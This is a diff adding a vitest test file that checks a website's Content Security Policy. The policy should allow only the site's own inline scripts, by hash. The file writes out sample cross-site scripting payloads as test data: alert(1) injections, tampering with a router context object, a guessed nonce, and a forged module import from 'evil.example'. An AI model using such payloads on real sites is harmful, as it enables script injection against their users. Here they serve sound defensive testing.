@@ -1,0 +1,59 @@
+import { createHash } from "node:crypto";
+import { readFileSync } from "node:fs";
+import { describe, expect, it } from "vitest";
+import { inlineScriptHashes } from "../../server/csp";
+import { deferredStart } from "../../app/lib/deferred-start.server";
+
+/**
+ * The policy allows the scripts the site writes, and nothing that reached a page any other way.
+ * Read from built pages (`npm test` builds first; alone, run `npm run build` first).
+ */
+const sha256 = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;
+const page = (path: string) => readFileSync(`build/client${path}/index.html`, "utf8");
+const inlineScripts = (html: string) =>
+  [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)]
+    .filter(([, attributes]) => !/src=|application\/ld\+json/.test(attributes!))
+    .map(([, , body]) => body!);
+
+/** A page with something written into its main text, as an injection bug would. */
+const injected = (html: string, what: string) => html.replace(/(<main\b[^>]*>)/, `$1${what}`);
+
+describe("the scripts a page's policy allows", () => {
+  it.each(["", "/about", "/services/wheelie-bins", "/blog/1"])("all of the site's own on %s", (path) => {
+    const html = page(path);
+    const allowed = inlineScriptHashes(html);
+    const scripts = inlineScripts(html);
+    expect(scripts.length).toBeGreaterThan(3);
+    for (const body of scripts) expect(allowed, body.slice(0, 60)).toContain(sha256(body));
+    expect(allowed).toContain(sha256(deferredStart(html)!.module));
+  });
+
+  it("none that an injection wrote into the page", () => {
+    const html = page("/about");
+    const mark = /nonce="([^"]+)"/.exec(html)?.[1];
+    expect(mark).toBeTruthy();
+    const start = /<script[^>]*>(\/\*deferred-start\*\/[\s\S]*?)<\/script>/.exec(html)![1]!;
+    const fakeModule = 'import "https://evil.example/x.js";';
+    const fakeStart = start.replace(
+      /"module":"(?:[^"\\]|\\.)*"/,
+      JSON.stringify({ module: fakeModule }).slice(1, -1),
+    );
+    const attacks = [
+      "alert(1)",
+      "window.__reactRouterContext = {};alert(1)",
+      "window.__reactRouterContext.streamController.close();alert(1)",
+    ];
+    const page2 = injected(
+      html,
+      [
+        ...attacks.map((body) => `<script>${body}</script>`),
+        `<script nonce="guessed">${attacks[0]}</script>`,
+        `<script>${fakeStart}</script>`,
+      ].join(""),
+    );
+    const allowed = inlineScriptHashes(page2);
+    for (const body of [...attacks, fakeStart, fakeModule]) expect(allowed).not.toContain(sha256(body));
+    // The page's own scripts still run.
+    for (const body of inlineScripts(html)) expect(allowed).toContain(sha256(body));
+  });
+});
